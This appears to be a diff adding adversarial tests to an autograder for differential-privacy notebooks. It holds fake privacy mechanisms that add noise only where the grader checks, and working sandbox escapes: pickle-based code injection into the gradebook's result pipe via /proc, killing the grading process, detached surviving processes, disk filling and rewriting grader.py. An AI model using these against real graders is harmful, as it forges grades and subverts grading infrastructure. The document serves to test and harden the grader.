@@ -58,8 +58,12 @@ def _table(name: str):
 
 
 def honest_except(name: str, **caps: float | None) -> dict[str, tuple[float, float] | None]:
-    """Full marks on every question, except: ``q=cap`` at most ``cap`` points, ``q=None`` not asserted."""
-    expected: dict[str, tuple[float, float] | None] = {q.name: (q.points, q.points) for q in _table(name)}
+    """Full marks on every question answered by functions, except: ``q=cap`` at most ``cap`` points,
+    ``q=None`` not asserted. Questions answered by values computed at the notebook's top level are not
+    asserted either (they depend on the notebook's slow cells, which the first table covers)."""
+    functions = set(TABLE.functions(name))
+    expected: dict[str, tuple[float, float] | None] = {
+        q.name: (q.points, q.points) if set(q.answers) <= functions else None for q in _table(name)}
     for question, cap in caps.items():
         assert question in expected, f"{name}: no question {question}"
         expected[question] = None if cap is None else (0.0, cap)
@@ -225,6 +229,120 @@ ATTACKS: dict[str, Attack] = {
     # SUCCEEDS TODAY: book/assignments/masters/*.ipynb sits next to the grader and is readable from the sandbox
     "the solution master read at grading time": Attack(
         A2, lambda: [*blank(A2), EXEC_MASTER_A2], lambda: nothing(A2)),
+
+    # ----------------------------------------------------------------- mechanisms private only where the grader looks
+    # SUCCEEDS TODAY: the only scalar call (q2_law's last line) checks the size, not the noise
+    "Laplace mechanism adds no noise to a single number": Attack(
+        A2, lambda: [*solution(A2),
+                     "def laplace_mechanism(value, sensitivity, epsilon, rng):\n"
+                     "    value = np.asarray(value, dtype=float)\n"
+                     "    if value.ndim == 0:\n"
+                     "        return float(value)  # one number: released as it is\n"
+                     "    return value + rng.laplace(0.0, sensitivity / epsilon, size=value.shape)\n"],
+        lambda: honest_except(A2, q2=1.0, q3=None)),
+    # SUCCEEDS TODAY: the law and privacy checks only use values 0, 3, -20, 10 and 11
+    "Laplace noise shrinks for large values": Attack(
+        A2, lambda: [*solution(A2),
+                     "def laplace_mechanism(value, sensitivity, epsilon, rng):\n"
+                     "    value = np.asarray(value, dtype=float)\n"
+                     "    scale = np.where(np.abs(value) > 1000, 0.1, 1.0) * sensitivity / epsilon\n"
+                     "    noisy = value + scale * rng.laplace(0.0, 1.0, size=value.shape)\n"
+                     "    return noisy if noisy.ndim else float(noisy)\n"],
+        lambda: honest_except(A2, q2=1.0)),
+    # SUCCEEDS TODAY: q2's only small input is the 3 x 4 shape check; law and privacy use 100,000+ bits
+    "randomized response leaves a handful of answers unflipped": Attack(
+        A1, lambda: [*solution(A1),
+                     "def randomized_response(bits, epsilon, rng):\n"
+                     "    bits = np.asarray(bits, dtype=int)\n"
+                     "    if bits.size <= 12:\n"
+                     "        return bits.copy()  # a few answers: sent as they are\n"
+                     "    flips = rng.random(bits.shape) < flip_probability(epsilon)\n"
+                     "    return np.where(flips, 1 - bits, bits)\n"],
+        lambda: honest_except(A1, q2=1.0, q5=None, q6=None)),
+    # SUCCEEDS TODAY: the law and privacy checks use 10,000+ cells; the 3-cell call only tests randomness
+    "DP histogram with noise only on large histograms": Attack(
+        A4, lambda: [*solution(A4),
+                     "def dp_histogram(counts, epsilon, rng):\n"
+                     "    counts = np.asarray(counts)\n"
+                     "    n = counts.sum()\n"
+                     "    scale = histogram_noise_scale(n, epsilon) if counts.size >= 1000 else 1e-9\n"
+                     "    return counts / n + rng.laplace(0.0, scale, size=counts.shape)\n"],
+        lambda: honest_except(A4, q1=0.5, q3=None)),
+    # SUCCEEDS TODAY: a local client reports one user at a time, but the checks only send 30,000+ users
+    "count-mean sketch client that flips only in large batches": Attack(
+        A5, lambda: [*solution(A5),
+                     "def cms_encode(items, hash_table, width, epsilon, rng):\n"
+                     "    items = np.asarray(items)\n"
+                     "    num_users, num_hashes = items.size, np.shape(hash_table)[1]\n"
+                     "    hash_indices = rng.integers(0, num_hashes, size=num_users)\n"
+                     "    buckets = np.asarray(hash_table)[items, hash_indices]\n"
+                     "    one_hot = np.zeros((num_users, width), dtype=np.int8)\n"
+                     "    one_hot[np.arange(num_users), buckets] = 1\n"
+                     "    if num_users < 100:\n"
+                     "        return one_hot, hash_indices  # a few users: no flips\n"
+                     "    flips = rng.random((num_users, width)) < cms_flip_probability(epsilon)\n"
+                     "    return np.where(flips, 1 - one_hot, one_hot).astype(np.int8), hash_indices\n"],
+        lambda: honest_except(A5, q2=0.5, q6=None)),
+    # SUCCEEDS TODAY: every check uses the same 40 items and a threshold of at most 2
+    "thresholding skipped for frequent categories": Attack(
+        A3, lambda: [*solution(A3),
+                     "def thresholded_histogram(items, epsilon, threshold, rng):\n"
+                     "    categories, counts = np.unique(np.asarray(items), return_counts=True)\n"
+                     "    noisy = counts + rng.laplace(0.0, 1.0 / epsilon, size=counts.size)\n"
+                     "    keep = (noisy >= threshold) | (counts >= 10)  # frequent ones are always released\n"
+                     "    return {c: float(v) for c, v in zip(categories[keep].tolist(), noisy[keep])}\n"],
+        lambda: honest_except(A3, q5=1.75)),
+    # ----------------------------------------------------------------- simulations replaced by a closed form
+    # SUCCEEDS TODAY: a closed form with a tiny random wobble passes "varies with the generator" and the 6-sd band
+    "simulated MSE is the formula plus a wobble": Attack(
+        A2, lambda: [*solution(A2),
+                     "def simulate_mse(p, n, epsilon, num_trials, rng):\n"
+                     "    return float(laplace_mean_mse(p, n, epsilon)) * (1 + 1e-6 * rng.standard_normal())\n"],
+        lambda: honest_except(A2, q5=0.75)),
+    # SUCCEEDS TODAY: one binomial draw at the closed-form probability has exactly the simulation's law
+    # (only the generator's consumption, one draw instead of num_trials, gives it away)
+    "simulated release frequency is one binomial draw at the formula": Attack(
+        A3, lambda: [*solution(A3),
+                     "def simulate_release_probability(threshold, epsilon, num_trials, rng):\n"
+                     "    return rng.binomial(num_trials, threshold_delta(threshold, epsilon)) / num_trials\n"],
+        lambda: honest_except(A3, q2=0.75)),
+    # SUCCEEDS TODAY: Gaussian errors with the predicted MSE pass the mean and the MSE-ratio checks
+    "sketch errors drawn from a Gaussian with the predicted MSE": Attack(
+        A5, lambda: [*solution(A5),
+                     "def simulate_sketch_errors(counts, epsilon, num_hashes, width, num_repeats, rng):\n"
+                     "    spread = np.sqrt(cms_mse(counts, epsilon, num_hashes, width))\n"
+                     "    return rng.normal(0.0, 1.0, (num_repeats, np.size(counts))) * spread\n"],
+        lambda: honest_except(A5, q6=0.75)),
+    # ----------------------------------------------------------------- fakes the grader catches today
+    "randomized response replays its first output": Attack(
+        A1, lambda: [*solution(A1),
+                     "_first = {}\n"
+                     "def randomized_response(bits, epsilon, rng):\n"
+                     "    bits = np.asarray(bits, dtype=int)\n"
+                     "    key = (bits.shape, float(epsilon))\n"
+                     "    if key not in _first:\n"
+                     "        flips = rng.random(bits.shape) < flip_probability(epsilon)\n"
+                     "        _first[key] = np.where(flips, 1 - bits, bits)\n"
+                     "    return _first[key].copy()\n"],
+        lambda: honest_except(A1, q2=0.0, q5=None, q6=None)),
+    "Laplace noise seeded from the input": Attack(
+        A2, lambda: [*solution(A2),
+                     "def laplace_mechanism(value, sensitivity, epsilon, rng):\n"
+                     "    value = np.asarray(value, dtype=float)\n"
+                     "    own = np.random.default_rng(list(value.ravel().view(np.uint32)) or 0)\n"
+                     "    noisy = value + own.laplace(0.0, sensitivity / epsilon, size=value.shape)\n"
+                     "    return noisy if noisy.ndim else float(noisy)\n"],
+        lambda: honest_except(A2, q2=0.5, q3=0.0)),
+    "thresholded histogram hands the generator back unused": Attack(
+        A3, lambda: [*solution(A3),
+                     "def thresholded_histogram(items, epsilon, threshold, rng):\n"
+                     "    state = rng.bit_generator.state\n"
+                     "    categories, counts = np.unique(np.asarray(items), return_counts=True)\n"
+                     "    noisy = counts + rng.laplace(0.0, 1.0 / epsilon, size=counts.size)\n"
+                     "    rng.bit_generator.state = state  # the same noise again next time\n"
+                     "    keep = noisy >= threshold\n"
+                     "    return {c: float(v) for c, v in zip(categories[keep].tolist(), noisy[keep])}\n"],
+        lambda: honest_except(A3, q5=0.5)),
 }
 
 
@@ -243,3 +361,250 @@ def test_attack(kind, tmp_path):
     if attack.flag is not None:
         assert attack.flag in result.flags, f"{kind}: expected the flag {attack.flag!r}, got {result.flags}"
     assert seconds < GRADING_TIME_LIMIT, f"{kind}: graded in {seconds:.0f} s"
+
+
+# --------------------------------------------------------------------------- beyond one submission's points
+# The sandbox runs as the grading user: from a cell it can reach the grading processes through /proc.
+
+FORGE_GRADEBOOK_ROW = r'''
+import os, pickle, struct
+# the grading worker (our parent) holds both ends of its result queue's pipe: write a row there first
+_CODE = """
+import sys
+from grading.grader import questions
+frame = sys._getframe()
+while frame is not None and frame.f_code.co_name != "grade_folder":
+    frame = frame.f_back
+local = frame.f_locals
+scores = {q.name: q.points for q in questions(local["assignment"]) if not q.manual}
+row = {"assignment": local["assignment"], "student": local["student"], "file": local["path"].name,
+       "seed": local["run_seed"], "scores": scores, "possible": dict(scores), "seconds": 1.0, "flags": [],
+       "feedback": {name: ["all checks passed"] for name in scores}, "notes": [],
+       "total": sum(scores.values()), "max_total": sum(scores.values())}
+(local["folder"] / "code-ran-in-the-gradebook.txt").write_text("unpickled in the gradebook process")
+"""
+
+class _Row:
+    def __reduce__(self):
+        return (eval, (f"(lambda ns: (exec({_CODE!r}, ns), ns['row'])[1])({{}})",))
+
+_mine = set()
+for _fd in os.listdir("/proc/self/fd"):
+    try:
+        _mine.add(os.readlink(f"/proc/self/fd/{_fd}"))
+    except OSError:
+        pass
+_parent = os.getppid()
+_ends = {}
+for _fd in os.listdir(f"/proc/{_parent}/fd"):
+    try:
+        _target = os.readlink(f"/proc/{_parent}/fd/{_fd}")
+        with open(f"/proc/{_parent}/fdinfo/{_fd}") as _info:
+            _flags = int(_info.read().split("flags:")[1].split()[0], 8)
+    except OSError:
+        continue
+    if _target.startswith("pipe:") and _target not in _mine:
+        _ends.setdefault(_target, []).append((_fd, _flags & 3))
+_payload = pickle.dumps(_Row())
+_queues = [(min(fd for fd, mode in fds if mode == os.O_RDONLY), min(fd for fd, mode in fds if mode == os.O_WRONLY))
+           for fds in _ends.values() if {os.O_RDONLY, os.O_WRONLY} <= {mode for fd, mode in fds}]
+'''
+
+
+FORGE_NOW = r'''
+for _queue in _queues:
+    with open(f"/proc/{_parent}/fd/{_queue[1]}", "wb", buffering=0) as _pipe:
+        _pipe.write(struct.pack("!i", len(_payload)) + _payload)
+'''
+
+FORGE_AFTER_THE_REAL_ROW = r'''
+import array, fcntl, termios, time
+_opened = [(os.open(f"/proc/{_parent}/fd/{r}", os.O_RDONLY), os.open(f"/proc/{_parent}/fd/{w}", os.O_WRONLY))
+           for r, w in _queues]
+if os.fork() == 0:
+    os.setsid()  # survives the sandbox; waits for the worker's real row, swallows it, sends its own
+    _waiting = array.array("i", [0])
+    _empty = []
+    for _read, _write in _opened:  # queues that already hold a message are someone else's
+        fcntl.ioctl(_read, termios.FIONREAD, _waiting)
+        if _waiting[0] == 0:
+            _empty.append((_read, _write))
+    _opened = _empty
+    _deadline = time.monotonic() + 100
+    while _opened and time.monotonic() < _deadline and os.path.exists(f"/proc/{_parent}"):
+        for _read, _write in _opened:
+            fcntl.ioctl(_read, termios.FIONREAD, _waiting)
+            if _waiting[0] >= 4:
+                _size = struct.unpack("!i", os.read(_read, 4))[0]
+                _real = b""
+                while len(_real) < _size:
+                    _real += os.read(_read, _size - len(_real))
+                os.write(_write, struct.pack("!i", len(_payload)) + _payload)
+                _opened = []
+                break
+        time.sleep(0.001)
+    os._exit(0)
+'''
+
+
+def _grade_class(tmp_path: Path, attack: str) -> tuple[Path, list[dict[str, Any]]]:
+    folder = tmp_path / "submissions"
+    write([*blank(A1), FORGE_GRADEBOOK_ROW + attack], folder / "mallory" / f"{A1}.ipynb")
+    write(blank(A1), folder / "zoe" / f"{A1}.ipynb")
+    rows = grade_folder(folder, A1, tmp_path / "grades", jobs=1, limits=LIMITS, progress=lambda line: None)
+    return folder, rows
+
+
+# SUCCEEDS TODAY: a cell opens /proc/<worker>/fd/<result queue> and writes a message before the
+# worker's own: the gradebook's queue.get() raises (semaphore released too many times) and the whole
+# class's grading stops with a traceback
+def test_attack_message_in_the_gradebook_queue(tmp_path):
+    folder, rows = _grade_class(tmp_path, FORGE_NOW)
+    assert not (folder / "code-ran-in-the-gradebook.txt").exists(), "the submission ran code in the gradebook"
+    assert [row["total"] for row in rows] == [0.0, 0.0], f"a blank notebook forged its row: {rows}"
+
+
+# SUCCEEDS TODAY: the same message sent by a process that outlives the sandbox, right after the worker
+# has put its real row (which it swallows): the gradebook unpickles it, so the notebook's code runs in
+# the gradebook process, and records 15/15 for a blank notebook
+def test_attack_forged_gradebook_row(tmp_path):
+    folder, rows = _grade_class(tmp_path, FORGE_AFTER_THE_REAL_ROW)
+    assert not (folder / "code-ran-in-the-gradebook.txt").exists(), "the submission ran code in the gradebook"
+    assert [row["total"] for row in rows] == [0.0, 0.0], f"a blank notebook forged its row: {rows}"
+
+
+KILL_GRADEBOOK = DISARM + r'''
+import os, signal
+with open(f"/proc/{os.getppid()}/stat") as _stat:
+    _gradebook = int(_stat.read().rsplit(")", 1)[1].split()[1])
+with open(f"/proc/{_gradebook}/cmdline", "rb") as _cmdline:
+    _command = _cmdline.read()
+if b"grading" in _command and b"--out" in _command:  # only ever the gradebook of this test
+    os.kill(_gradebook, signal.SIGKILL)
+'''
+
+
+# SUCCEEDS TODAY: with the audit hook off (`_STATE["active"] = False`), os.kill reaches the gradebook
+# process: the whole class's grading stops and no gradebook is written
+def test_attack_kills_the_gradebook(tmp_path):
+    folder = tmp_path / "submissions"
+    write([*blank(A1), KILL_GRADEBOOK], folder / "mallory" / f"{A1}.ipynb")
+    write(blank(A1), folder / "zoe" / f"{A1}.ipynb")
+    out = tmp_path / "grades"
+    done = subprocess.run([sys.executable, "-m", "grading", "a1", str(folder), "--out", str(out), "--jobs", "1"],
+                          cwd=ROOT, capture_output=True, text=True, timeout=2 * GRADING_TIME_LIMIT)
+    assert done.returncode == 0, f"the gradebook process ended with {done.returncode}: {done.stderr[-500:]}"
+    lines = (out / "gradebook.csv").read_text(encoding="utf-8").splitlines()
+    assert len(lines) == 3, lines
+
+
+SURVIVOR = r'''
+import os, time
+_sandbox = os.getpid()
+if os.fork() == 0:
+    os.setsid()  # out of the sandbox's process group: the grader's killpg misses it
+    try:
+        for _ in range(600):
+            time.sleep(0.2)
+            if not os.path.exists(f"/proc/{_sandbox}"):
+                with open(MARK, "w") as _handle:
+                    _handle.write(str(os.getpid()))
+                time.sleep(20)
+                break
+    finally:
+        os._exit(0)
+'''
+
+
+# SUCCEEDS TODAY: os.fork + os.setsid from a cell leaves a process running after grading has ended
+def test_attack_process_outlives_grading(tmp_path):
+    mark = tmp_path / "still-running.txt"
+    path = write([*solution(A2), f"MARK = {str(mark)!r}\n" + SURVIVOR], tmp_path / "submission" / f"{A2}.ipynb")
+    try:
+        result = grader.grade_submission(path, A2, limits=LIMITS)
+        check_scores(result, honest_except(A2), "a process that outlives grading")
+        time.sleep(3)
+        assert not mark.exists(), "a process started by the notebook is still running after grading"
+    finally:
+        if mark.exists():
+            try:
+                os.kill(int(mark.read_text()), signal.SIGKILL)  # the process this test started
+            except (ValueError, ProcessLookupError):
+                pass
+
+
+WRITE_OUTSIDE = r'''
+import os
+os.makedirs(TARGET, exist_ok=True)
+for _piece in range(3):  # each piece under the 50 MB file-size cap; nothing limits their number
+    with open(os.path.join(TARGET, f"piece{_piece}"), "wb") as _handle:
+        _handle.write(bytes(20 * 2**20))
+'''
+
+
+# SUCCEEDS TODAY: the sandbox can write anywhere the grading user can, as much as it likes
+# (RLIMIT_FSIZE caps one file at 50 MB, not the total): a loop of such cells fills the disk
+def test_attack_writes_outside_the_sandbox(tmp_path):
+    target = tmp_path / "outside"
+    path = write([*blank(A1), f"TARGET = {str(target)!r}\n" + WRITE_OUTSIDE], tmp_path / "submission" / f"{A1}.ipynb")
+    try:
+        grader.grade_submission(path, A1, limits=LIMITS)
+        written = sum(f.stat().st_size for f in target.glob("*")) if target.exists() else 0
+        assert written == 0, f"the notebook wrote {written / 2**20:.0f} MB outside its sandbox"
+    finally:
+        shutil.rmtree(target, ignore_errors=True)
+
+
+REWRITE_GRADER = r'''
+import os, sys
+_folder = os.path.dirname(sys.modules["grading.codec"].__file__)
+with open(os.path.join(_folder, "grader.py"), "a", encoding="utf-8") as _handle:
+    _handle.write("\n\ndef _grade_question(question, sb, ctx, result):\n"
+                  "    result.scores[question.name] = question.points\n"
+                  "    result.feedback[question.name] = ['all checks passed']\n")
+'''
+
+GRADE_WITH_COPY = r'''
+import json, sys
+sys.path.insert(0, sys.argv[1])
+from grading import grader
+assert grader.__file__.startswith(sys.argv[1]), grader.__file__
+result = grader.grade_submission(sys.argv[2], "a1", limits={"cell": 15.0, "call": 15.0, "submission": 110.0})
+print(json.dumps(result.scores))
+'''
+
+
+# SUCCEEDS TODAY (documented for setups without GRADING_SANDBOX_USER): a cell appends a new
+# _grade_question to grading/grader.py; every notebook graded afterwards gets full marks.
+# Run on a copy of grading/, never on the repository's.
+def test_attack_rewrites_the_grader(tmp_path):
+    copy = tmp_path / "copy"
+    shutil.copytree(ROOT / "grading", copy / "grading", ignore=shutil.ignore_patterns("__pycache__"))
+    before = {p.name: p.read_bytes() for p in (copy / "grading").rglob("*.py")}
+
+    def grade_with_copy(cells: list[str], name: str) -> dict[str, float]:
+        path = write(cells, tmp_path / name / f"{A1}.ipynb")
+        done = subprocess.run([sys.executable, "-c", GRADE_WITH_COPY, str(copy), str(path)], cwd=tmp_path,
+                              capture_output=True, text=True, timeout=2 * GRADING_TIME_LIMIT)
+        assert done.returncode == 0, done.stderr[-2000:]
+        return json.loads(done.stdout.strip().splitlines()[-1])
+
+    grade_with_copy([*blank(A1), REWRITE_GRADER], "mallory")
+    after_blank = grade_with_copy(blank(A1), "zoe")
+    changed = sorted(name for name, data in before.items()
+                     if next((copy / "grading").rglob(name)).read_bytes() != data)
+    assert not changed, f"the notebook changed the grader's files {changed}"
+    assert sum(after_blank.values()) == 0, f"a blank notebook graded afterwards got {after_blank}"
+
+
+# --------------------------------------------------------------------------- robustness
+# SUCCEEDS TODAY (a robustness failure, not a fake): after four cells that end the notebook's process
+# the grader stops retrying and the honest answers above them score 0
+def test_many_cells_that_end_the_process(tmp_path):
+    cells = [*solution(A1), *["import os\nos._exit(3)\n"] * 5]
+    path = write(cells, tmp_path / "submission" / f"{A1}.ipynb")
+    start = time.monotonic()
+    result = grader.grade_submission(path, A1, limits=LIMITS)
+    assert time.monotonic() - start < GRADING_TIME_LIMIT
+    check_scores(result, honest_except(A1), "five cells that end the process")
+    assert grader.FLAG_CRASHED in result.flags
